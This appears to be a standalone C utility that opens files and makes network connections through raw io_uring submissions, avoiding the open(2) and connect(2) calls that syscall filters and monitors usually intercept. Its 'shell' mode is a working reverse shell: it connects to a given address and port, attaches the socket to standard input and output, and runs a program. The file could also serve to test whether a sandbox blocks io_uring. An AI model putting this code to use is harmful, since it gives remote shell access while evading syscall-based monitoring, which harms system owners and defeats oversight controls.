/*
 * Opens and connects by io_uring: no open(2), no connect(2).
 * usage: uring open PATH | uring unix PATH | uring connect ADDRESS PORT | uring shell ADDRESS PORT PROGRAM [ARG...]
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

static int submit(struct io_uring_sqe *request) {
    struct io_uring_params params = {0};
    int ring = syscall(SYS_io_uring_setup, 1, &params);
    if (ring < 0) { perror("io_uring_setup"); exit(1); }
    char *sq = mmap(0, params.sq_off.array + params.sq_entries * 4, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
    char *cq = mmap(0, params.cq_off.cqes + params.cq_entries * sizeof(struct io_uring_cqe), PROT_READ | PROT_WRITE, MAP_SHARED,
                    ring, IORING_OFF_CQ_RING);
    struct io_uring_sqe *sqes = mmap(0, params.sq_entries * sizeof *sqes, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
    if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) { perror("mmap"); exit(1); }
    sqes[0] = *request;
    ((unsigned *)(sq + params.sq_off.array))[0] = 0;
    __atomic_store_n((unsigned *)(sq + params.sq_off.tail), 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, 0, 0) < 0) { perror("io_uring_enter"); exit(1); }
    return ((struct io_uring_cqe *)(cq + params.cq_off.cqes))[0].res;
}

int main(int argc, char **argv) {
    if (argc < 3) return 2;
    struct io_uring_sqe request = {0};
    if (!strcmp(argv[1], "open")) {
        request.opcode = IORING_OP_OPENAT;
        request.fd = AT_FDCWD;
        request.addr = (unsigned long)argv[2];
        request.open_flags = O_WRONLY;
        printf("%d\n", submit(&request));
        return 0;
    }
    struct sockaddr_un local = {.sun_family = AF_UNIX};
    struct sockaddr_in remote = {.sin_family = AF_INET};
    int is_unix = !strcmp(argv[1], "unix");
    request.opcode = IORING_OP_CONNECT;
    if (is_unix) {
        snprintf(local.sun_path, sizeof local.sun_path, "%s", argv[2]);
        request.addr = (unsigned long)&local;
        request.off = sizeof local;
    } else {
        if (argc < 4 || inet_pton(AF_INET, argv[2], &remote.sin_addr) != 1) return 2;
        remote.sin_port = htons(atoi(argv[3]));
        request.addr = (unsigned long)&remote;
        request.off = sizeof remote;
    }
    request.fd = socket(is_unix ? AF_UNIX : AF_INET, SOCK_STREAM, 0);
    int result = submit(&request);
    printf("%d\n", result);
    if (strcmp(argv[1], "shell") || argc < 5 || result) return 0;
    fflush(stdout);
    for (int fd = 0; fd < 3; fd++) dup2(request.fd, fd);
    execv(argv[4], argv + 4);
    return 1;
}
